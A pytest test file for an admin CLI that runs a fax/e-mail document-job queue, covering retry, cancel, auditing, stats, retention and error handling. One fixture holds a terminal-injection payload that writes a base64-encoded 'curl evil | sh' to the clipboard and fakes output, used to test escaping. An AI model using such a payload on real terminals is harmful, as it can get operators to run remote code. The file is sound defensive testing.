"""The admin CLI against the local stack (PostgREST stand-in, service-role key), cancel while a
worker runs, queue health, and retention."""

from __future__ import annotations

import contextlib
import http.server
import json
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from datetime import timedelta

import pytest

from lib.admin import PROGRAM, command_line
from lib.admin import cli as admin
from lib.settings import SupabaseSettings
from lib.supabase.client import service_client
from lib.worker.queue import LeaseLost, Queue
from tests.support.database import add_jobs
from tests.support.emails import email_with_job, failed_email
from tests.support.operators import new_account, sign_in
from tests.support.vault import store_secrets

COMMANDS = [
    "list", "show", "retry", "cancel", "reconcile", "stats", "health", "retention", "purge", "download", "delete-fax",
    "purge-deleted",
]  # fmt: skip


def test_the_cli_runs_as_a_module() -> None:
    result = subprocess.run([sys.executable, "-m", "lib.admin", "--help"], capture_output=True, text=True)
    assert result.returncode == 0 and f"usage: {PROGRAM}" in result.stdout


@pytest.mark.parametrize("command", COMMANDS)
def test_every_command_has_help(command, capsys) -> None:
    with pytest.raises(SystemExit) as exited:
        admin.main([command, "--help"])
    assert exited.value.code == 0 and f"usage: {PROGRAM}" in capsys.readouterr().out


def test_list_filters_by_state_and_shows_age_attempts_and_error(cli, db) -> None:
    add_jobs(db, 2)
    add_jobs(db, 1, status="'failed'", attempts="5", finished_at="now()", last_error_code="'resend_not_found'",
             created_at="now() - interval '3 hours'")  # fmt: skip

    status, out, _ = cli("list", "--state", "failed")

    assert status == 0
    [header, _, row, _, footer] = out.strip().splitlines()
    assert header.split() == ["id", "status", "received", "attempt", "next", "run", "sender", "subject", "error"]
    assert re.fullmatch(
        r"[0-9a-f]{8}  failed  \d{4}-\d\d-\d\d \d\d:\d\d:\d\d [+-]\d\d:\d\d \(3 h ago\)  5/5 +"
        r"resend_not_found",
        row,
    ), row
    assert footer == "showing 1 of 1, newest first"
    status, out, _ = cli("list", "--json")
    assert len(json.loads(out)["jobs"]) == 3 and json.loads(out)["total"] == 3


def test_show_gives_the_job_its_email_and_attachments(cli, db) -> None:
    job_id, email_id = email_with_job(db)
    status, out, _ = cli("show", job_id)
    assert status == 0
    assert "em_admin" in out and "請求書.pdf" in out and "stored attachments (1)" in out
    assert [line.split(":")[0].strip() for line in out.splitlines()[:3]] == ["id", "kind", "status"]
    assert "attempts (0)" in out and "\ne-mail\n" in out and "from: fax@example.jp" in out
    data = json.loads(cli("show", job_id, "--json")[1])
    assert (data["job"]["id"], data["email"]["id"], len(data["attachments"])) == (job_id, email_id, 1)
    assert cli("show", "00000000-0000-0000-0000-000000000000")[0] == 1


def test_retry_requeues_a_failed_job_and_explains_a_refusal(cli, db, operator) -> None:
    job_id, _ = email_with_job(db)
    assert cli("retry", job_id, "--as", operator)[0:3:2] == (
        1,
        f"error: job {job_id} was not retried: it is queued, and only a failed job can be\n",
    )
    db.execute("update document_jobs set status = 'failed', attempts = 5, finished_at = now()")
    assert cli("retry", job_id, "--as", operator)[0] == 0
    row = db.execute("select status, attempts from document_jobs").fetchone()
    assert row == {"status": "queued", "attempts": 0}


def test_retry_while_another_job_is_live_shows_the_clear_error(cli, db, operator) -> None:
    job_id, email_id = email_with_job(db)
    db.execute("update document_jobs set status = 'failed', finished_at = now()")
    db.execute("select enqueue_document_job('fetch_email', %s)", (email_id,))
    live = db.execute("select id from document_jobs where status = 'queued'").fetchone()["id"]
    status, _, err = cli("retry", job_id, "--as", operator)
    assert status == 1
    assert err == (
        f"error: job {job_id} was not retried: job {live} for the same e-mail is queued; let it finish, "
        f"or cancel it ({command_line('cancel', str(live), '--reason', 'WHY')})\n"
    )


def test_cancel_while_running_stops_the_worker_at_its_next_fenced_write(cli, db, stack_env, operator) -> None:
    job_id, _ = email_with_job(db)
    settings = SupabaseSettings(supabase_url=stack_env["SUPABASE_URL"],
                                supabase_secret_key=stack_env["SUPABASE_SECRET_KEY"])  # fmt: skip
    import httpx

    with httpx.Client() as http:
        worker = Queue(service_client(settings, http))
        job = worker.claim("fetch_email")
        worker.extend(job)  # still ours

        assert cli("cancel", job_id, "--reason", "wrong number", "--as", operator)[0] == 0

        with pytest.raises(LeaseLost):
            worker.extend(job)
        for write in (lambda: worker.complete(job), lambda: worker.release(job, timedelta(0))):
            with pytest.raises(LeaseLost):
                write()
    row = db.execute("select status, last_error_code, last_error_message, lease_until from document_jobs").fetchone()
    assert row == {"status": "failed", "last_error_code": "cancelled", "last_error_message": "wrong number",
                   "lease_until": None}  # fmt: skip
    assert cli("cancel", job_id, "--reason", "again", "--as", operator)[0] == 1, "a failed job is not cancelled again"


def audit_rows(admin, job_id: str) -> list[dict]:
    return admin.execute("select actor_id::text, actor_email, action, job_count, reason from document_jobs_audit"
                         " where job_id = %s order by id", (job_id,)).fetchall()  # fmt: skip


def test_retry_and_cancel_are_audited_with_the_operator_as_on_the_screen(cli, db, admin, stack_env, operator,
                                                                         monkeypatch) -> None:  # fmt: skip
    """admin_retry_document_job and admin_cancel_document_job, the screen's: each action is in the
    audit with the operator Auth knows, named by --as or by DOCUMENT_JOBS_OPERATOR; a retry starts a worker."""
    store_secrets(db)  # a worker URL to start one at (nobody answers there)
    job_id, _ = failed_email(db, "audited", "resend_not_found")
    user = sign_in(stack_env, operator, stack_env["DEVSTACK_OPERATOR_PASSWORD"])["user"]
    requests_before = admin.execute("select count(*) as n from document_jobs_internal.worker_requests").fetchone()["n"]

    status, out, err = cli("retry", job_id[:8], "--as", operator, "--reason", "key rotated")

    assert (status, err) == (0, "")
    assert out == (f"job {job_id} is queued again (attempts reset to 0); a worker was started for it; "
                   f"recorded in the audit as {operator}\n")  # fmt: skip
    requests_after = admin.execute("select count(*) as n from document_jobs_internal.worker_requests").fetchone()["n"]
    assert requests_after == requests_before + 1, "the retry started a worker, as the screen's Retry does"
    monkeypatch.setenv("DOCUMENT_JOBS_OPERATOR", operator)
    status, out, err = cli("--json", "cancel", job_id, "--reason", "duplicate fax")
    assert (status, err) == (0, "")
    assert json.loads(out)["actor"] == {"id": user["id"], "email": operator}
    assert audit_rows(admin, job_id) == [
        {"actor_id": user["id"], "actor_email": operator, "action": "retry", "job_count": 1, "reason": "key rotated"},
        {"actor_id": user["id"], "actor_email": operator, "action": "cancel", "job_count": 1,
         "reason": "duplicate fax"},
    ]  # fmt: skip
    row = db.execute("select status, last_error_code, last_error_message from document_jobs").fetchone()
    assert row == {"status": "failed", "last_error_code": "cancelled", "last_error_message": "duplicate fax"}


def test_retry_and_cancel_need_an_admin_that_auth_knows_and_a_cancel_its_reason(cli, db, admin, stack_env) -> None:
    job_id, _ = failed_email(db, "refused", "resend_not_found")
    viewer, _ = new_account(stack_env, app_metadata={"document_jobs_role": "viewer"})
    stranger, _ = new_account(stack_env)
    refusals = {
        ("retry", job_id): (2, "actor_required"),
        ("retry", job_id, "--as", viewer["email"]): (1, "not_an_admin"),
        ("retry", job_id, "--as", stranger["email"]): (1, "not_an_operator"),
        ("cancel", job_id, "--as", viewer["email"]): (2, "reason_required"),
    }
    for argv, (exit_status, code) in refusals.items():
        status, out, err = cli("--json", *argv)
        assert (status, out, json.loads(err)["error"]) == (exit_status, "", code), argv
    assert "--as EMAIL, or DOCUMENT_JOBS_OPERATOR=EMAIL" in json.loads(cli("--json", "retry", job_id)[2])["message"]
    assert audit_rows(admin, job_id) == []
    assert db.execute("select status from document_jobs").fetchone()["status"] == "failed"


def test_show_prints_the_attempt_history_with_the_invocation_that_claimed(cli, db, stack_env) -> None:
    """Through the PostgREST stand-in, as the deployed worker: its invocation id reaches the history."""
    import httpx

    job_id, _ = email_with_job(db)
    settings = SupabaseSettings(supabase_url=stack_env["SUPABASE_URL"],
                                supabase_secret_key=stack_env["SUPABASE_SECRET_KEY"])  # fmt: skip
    with httpx.Client() as http:
        worker = Queue(service_client(settings, http, invocation_id="iad1::first"))
        job = worker.claim("fetch_email")
        worker.fail(job, "resend_unavailable", "Resend: HTTP 503", retryable=True)
        db.execute("update document_jobs set run_after = now()")
        worker = Queue(service_client(settings, http, invocation_id="iad1::second"))
        job = worker.claim("fetch_email")
        worker.fail(job, "resend_not_found", "Resend: HTTP 404", retryable=False)

    status, out, _ = cli("show", job_id)
    data = json.loads(cli("show", job_id, "--json")[1])

    assert status == 0
    assert [(a["attempt"], a["outcome"], a["error_code"], a["invocation_id"]) for a in data["attempts"]] == [
        (1, "retried", "resend_unavailable", "iad1::first"),
        (2, "failed", "resend_not_found", "iad1::second"),
    ]
    lines = out[out.index("attempts (2)") :].splitlines()
    assert lines[1].split() == ["attempt", "generation", "started", "took", "outcome", "error", "invocation"]
    assert lines[3].split()[:2] == ["1", "1"] and lines[3].split()[-3:] == [
        "retried",
        "resend_unavailable",
        "iad1::first",
    ]
    assert "generation 2: Resend: HTTP 404" in out


def test_stats_shows_counts_lag_backoff_failures_and_last_completion(cli, db) -> None:
    add_jobs(db, 3, run_after="now() - interval '90 seconds'")
    add_jobs(db, 2, attempts="1", run_after="now() + interval '5 minutes'")
    add_jobs(db, 1, status="'failed'", finished_at="now() - interval '10 minutes'")
    add_jobs(db, 1, status="'failed'", finished_at="now() - interval '2 hours'")
    add_jobs(db, 4, status="'completed'", finished_at="'2026-01-02T03:04:05Z'")

    status, out, _ = cli("stats")
    data = json.loads(cli("stats", "--json")[1])

    assert status == 0
    assert data["by_kind_and_status"] == [
        {"kind": "fetch_email", "status": "completed", "count": 4},
        {"kind": "fetch_email", "status": "failed", "count": 2},
        {"kind": "fetch_email", "status": "queued", "count": 5},
    ]
    assert (data["claimable"], data["in_backoff"], data["failed_last_hour"]) == (3, 2, 1)
    assert 89 <= data["oldest_claimable_age_seconds"] < 120
    assert data["last_completed_at"].startswith("2026-01-02T03:04:05")
    assert "claimable now:        3 (oldest waiting" in out
    assert out.splitlines()[2].split() == ["fetch_email", "5", "0", "4", "2"]


def test_retention_is_configurable_and_purges_only_old_completed_jobs(cli, db) -> None:
    email_with_job(db)
    # The fetch completed 40 days ago, and so did the preparation its completion enqueued.
    for _ in ("fetch_email", "prepare_fax"):
        db.execute("update document_jobs set status = 'completed', finished_at = now() - interval '40 days'")
    add_jobs(db, 1, status="'completed'", finished_at="now() - interval '10 days'")
    for status in ("queued", "failed"):
        add_jobs(db, 1, status=f"'{status}'", finished_at="now() - interval '400 days'",
                 created_at="now() - interval '400 days'")  # fmt: skip
    add_jobs(db, 1, status="'running'", attempts="1", lease_until="now() + interval '1 minute'",
             created_at="now() - interval '400 days'")  # fmt: skip

    assert "30 days" in cli("retention")[1]
    assert cli("retention", "--set", "5 days")[0] == 0
    assert db.execute("select purge_document_jobs() as n").fetchone()["n"] == 3  # what the cron job calls

    left = db.execute("select status, count(*) as n from document_jobs group by 1 order by 1").fetchall()
    assert left == [{"status": "failed", "n": 1}, {"status": "queued", "n": 1}, {"status": "running", "n": 1}]
    assert db.execute("select count(*) as n from fax_received_emails").fetchone()["n"] == 1, "e-mails stay"
    assert db.execute("select count(*) as n from fax_received_email_attachments").fetchone()["n"] == 1
    assert cli("retention", "--set", "1 minute")[0] == 2, "too short to be a retention"
    db.execute("select set_document_jobs_retention('30 days')")


def test_purge_now_with_an_explicit_age(cli, db) -> None:
    add_jobs(db, 3, status="'completed'", finished_at="now() - interval '2 days'")
    assert json.loads(cli("purge", "--older-than", "1 day", "--json")[1]) == {"deleted": 3}


def test_a_missing_setting_is_a_clear_error(monkeypatch, capsys) -> None:
    monkeypatch.delenv("SUPABASE_URL", raising=False)
    monkeypatch.delenv("SUPABASE_SECRET_KEY", raising=False)
    monkeypatch.delenv("SUPABASE_SERVICE_ROLE_KEY", raising=False)
    assert admin.main(["stats"]) == 3
    err = capsys.readouterr().err
    assert "SUPABASE_URL (Field required)" in err, "both missing settings are named, not the first alone"
    assert "SUPABASE_SECRET_KEY or SUPABASE_SERVICE_ROLE_KEY must be set" in err
    monkeypatch.setenv("SUPABASE_URL", "https://project.supabase.co")
    assert admin.main(["stats"]) == 3
    assert "SUPABASE_SECRET_KEY or SUPABASE_SERVICE_ROLE_KEY must be set" in capsys.readouterr().err


BAD_ARGUMENTS = [
    ("show", "not-a-uuid"),
    ("retry", "not-a-uuid"),
    ("cancel", "1234"),
    ("list", "--limit", "0"),
    ("list", "--state", "sleeping"),
    ("purge", "--older", "1 day", "--surprise"),
]


@pytest.mark.parametrize("argv", BAD_ARGUMENTS, ids=[" ".join(argv) for argv in BAD_ARGUMENTS])
def test_bad_arguments_are_one_line_and_exit_2(argv, capsys) -> None:
    # Before any setting is read: no stack needed, and the answer is the same everywhere.
    status = admin.main(list(argv))
    out, err = capsys.readouterr()
    assert (status, out) == (2, "")
    [line] = err.splitlines()
    assert line.startswith("error: ")


REFUSED_BY_THE_DATABASE = [
    ("retention", "--set", "a fortnight"),  # not an interval: 22007 from the cast
    ("retention", "--set", "1 minute"),  # out of bounds: 22023
    ("purge", "--older-than", "forever"),
]


@pytest.mark.parametrize("argv", REFUSED_BY_THE_DATABASE, ids=[" ".join(argv) for argv in REFUSED_BY_THE_DATABASE])
def test_what_the_database_refuses_names_the_flag_and_exits_2(cli, argv) -> None:
    status, out, err = cli(*argv)
    assert (status, out) == (2, "")
    [line] = err.splitlines()
    assert line.startswith(f"error: {'--set' if '--set' in argv else '--older-than'}")


@pytest.mark.parametrize("argv", [("show", "00000000-0000-0000-0000-000000000000"), ("list",), ("stats",)])
def test_an_unreachable_database_names_the_url_and_exits_4(monkeypatch, capsys, argv) -> None:
    # A table read (show, list) and an RPC (stats) fail alike: nothing listens on port 9.
    monkeypatch.setenv("SUPABASE_URL", "http://127.0.0.1:9")
    monkeypatch.setenv("SUPABASE_SECRET_KEY", "sb_secret_key")
    assert admin.main(list(argv)) == 4
    [line] = capsys.readouterr().err.splitlines()
    assert line == "error: cannot reach the database at http://127.0.0.1:9 (SUPABASE_URL): ConnectError"


# --- a sender's text on the operator's terminal ----------------------------------------------------

# Clear the screen, write the clipboard (OSC 52: "curl evil | sh"), and fake a status line.
HOSTILE = "\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\rstatus: completed\n\x9b1m\u202etxt.exe"


def hostile_job(db) -> str:
    email = db.execute(
        "select * from record_inbound_email('em_hostile', 'msg', %s)",
        (json.dumps({"from": HOSTILE, "subject": "請求書 " + HOSTILE}),),
    ).fetchone()
    db.execute(
        """insert into fax_received_email_attachments (fax_received_email_id, provider_attachment_id, filename,
                  content_type, size_bytes, sha256, bucket, storage_path)
           values (%s, 'att_1', %s, 'application/pdf', 618, repeat('a', 64), 'fax-attachments', 'x/a.pdf')""",
        (email["fax_received_email_id"], "fax" + HOSTILE + ".pdf"),
    )
    [job] = db.execute("select * from claim_document_jobs('fetch_email', 1)").fetchall()
    db.execute("select fail_document_job_v2(%s, %s, 'resend_rejected', %s, p_retryable => false)",
               (job["id"], job["generation"], "Resend 400: " + HOSTILE))  # fmt: skip
    return str(job["id"])


def test_show_prints_a_senders_control_sequences_as_escapes(cli, db) -> None:
    job_id = hostile_job(db)

    status, out, _ = cli("show", job_id)

    assert status == 0
    assert all(c.isprintable() for line in out.splitlines() for c in line), "no control character reaches the terminal"
    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\rstatus: completed\\n\\x9b1m\\u202etxt.exe" in out
    assert [line for line in out.splitlines() if "status: completed" in line and "\\r" not in line] == []
    assert "請求書" in out
    status, out, _ = cli("show", job_id, "--json")
    assert json.loads(out)["email"]["subject"] == "請求書 " + HOSTILE, "--json keeps the raw value, escaped as JSON"
    assert all(c.isprintable() or c == "\n" for c in out)


@pytest.mark.parametrize(
    "locale",
    [{"PYTHONIOENCODING": "ascii"}, {"LC_ALL": "C"}, {"LC_ALL": "C", "PYTHONUTF8": "0"}],
    ids=["PYTHONIOENCODING=ascii", "LC_ALL=C", "LC_ALL=C without UTF-8 mode"],
)
def test_a_terminal_that_is_not_utf8_gets_escapes_not_a_traceback(db, stack_env, locale) -> None:
    job_id = hostile_job(db)
    env = {key: value for key, value in stack_env.items() if not key.startswith(("LC_", "LANG", "PYTHON"))}
    for argv in (["show", job_id], ["show", job_id, "--json"], ["list"], ["stats"]):
        result = subprocess.run([sys.executable, "-m", "lib.admin", *argv], capture_output=True, env=env | locale,
                                timeout=60)  # fmt: skip
        assert (result.returncode, result.stderr) == (0, b""), argv
        out = result.stdout.decode("utf-8")
        assert "\x1b" not in out
        if argv[-1] == "--json":
            assert json.loads(out)["email"]["subject"] == "請求書 " + HOSTILE
        elif argv[0] == "show":
            assert "請求書" in out or "\\u8acb\\u6c42\\u66f8" in out


# The answer, and the exit status: 3 for a SUPABASE_URL that is not a project's API, 4 for a
# gateway's 5xx without PostgREST's error (a paused or restarting project looks like that).
NOT_POSTGREST = [
    (200, "text/html", b"<html><body>Welcome to nginx!</body></html>", 3),
    (404, "text/html", b"<html><body>404 Not Found\n</body></html>", 3),
    (200, "application/json", b'{"unexpected": true}', 3),
    (200, "application/json", b"[1, 2, 3]", 3),
    (502, "text/plain", b"Bad Gateway\r\n\x1b[2J", 4),
]


@pytest.mark.parametrize(("status", "content_type", "body", "exit_status"), NOT_POSTGREST,
                         ids=["HTML page", "HTML 404", "other JSON", "a JSON list", "a proxy's 502"])  # fmt: skip
def test_a_url_that_is_not_postgrest_is_one_line_and_exit_3_or_4(
    monkeypatch, capsys, status, content_type, body, exit_status
) -> None:
    with answering(status, content_type, body) as url:
        monkeypatch.setenv("SUPABASE_URL", url)
        monkeypatch.setenv("SUPABASE_SERVICE_ROLE_KEY", "key")
        for argv in (["list"], ["stats"], ["show", "00000000-0000-0000-0000-000000000000"],
                     ["retry", "00000000-0000-0000-0000-000000000000", "--as", "x@example.com"], ["retention"],
                     ["purge"]):  # fmt: skip
            assert admin.main(argv) == exit_status, argv
            out, err = capsys.readouterr()
            [line] = err.splitlines()
            assert out == "" and line.startswith("error: ") and "\x1b" not in line, (argv, err)


@contextlib.contextmanager
def answering(status: int, content_type: str, body: bytes) -> Iterator[str]:
    """A loopback server answering every request the same: where SUPABASE_URL points by mistake."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def answer(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = do_PATCH = answer

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
